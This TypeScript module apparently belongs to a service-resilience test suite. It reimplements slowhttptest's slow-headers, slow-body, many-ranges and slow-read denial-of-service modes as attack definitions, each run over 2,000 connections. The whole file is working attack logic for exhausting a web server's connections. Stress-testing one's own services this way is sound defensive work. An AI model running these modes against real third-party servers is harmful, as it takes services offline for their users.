import { type Attack, goesOn, type Target } from './attack.ts'
import { PATHS } from './hostile-blocks.ts'
import type { HostileWire } from './hostile-wire.ts'

/** As many as slowhttptest is told to make. */
const CONNECTIONS = 2_000
/** Between two pieces of what comes slowly, as slowhttptest has it by default. */
const EVERY_MS = 10_000
const RANGES = Array.from({ length: 500 }, (_, i) => `5-${i}`).join(',')

const head = ({ authority }: Target, method: string, path: string, fields = ''): string =>
  `${method} ${path} HTTP/1.1\r\nhost: ${authority}\r\n${fields}`

/** A beginning, and then a little now and again. */
const slowly =
  (start: (target: Target) => string, piece: string) =>
  async (wire: HostileWire, target: Target): Promise<void> => {
    await wire.send(start(target))
    for (let round = 0; goesOn(wire, target, round); round++) {
      await wire.pause(EVERY_MS)
      await wire.send(piece)
    }
  }

async function readSlowly(wire: HostileWire, target: Target): Promise<void> {
  wire.stopReading()
  await wire.send(`${head(target, 'GET', PATHS.page)}\r\n`.repeat(3))
  for (let round = 0; goesOn(wire, target, round); round++) {
    await wire.pause(EVERY_MS / 2)
    wire.socket.read(32)
  }
}

async function askForRanges(wire: HostileWire, target: Target): Promise<void> {
  for (let round = 0; goesOn(wire, target, round); round++) {
    await wire.send(`${head(target, 'HEAD', PATHS.small, `range: bytes=0-,${RANGES}\r\n`)}\r\n`)
    await wire.pause(EVERY_MS)
  }
}

const mode = (letter: string, what: string, run: Attack['run']): Attack => ({
  name: `slow-mode-${letter}`,
  doors: ['h1'],
  known: `slowhttptest -${letter}: ${what}, on ${CONNECTIONS} connections`,
  limit: 'the service stays available',
  isCut: false,
  isLong: true,
  asksAvailabilityOnly: true,
  connections: CONNECTIONS,
  run,
})

/** The four modes of slowhttptest, for machines that have it not. */
export const SLOW_MODES: readonly Attack[] = [
  mode(
    'H',
    'slow headers',
    slowly((target) => head(target, 'GET', '/'), 'x-a: b\r\n'),
  ),
  mode(
    'B',
    'slow bodies',
    slowly((target) => `${head(target, 'POST', '/', 'content-length: 4096\r\n')}\r\n`, 'x=1&'),
  ),
  mode('R', 'many ranges', askForRanges),
  mode('X', 'slow reading', readSlowly),
]
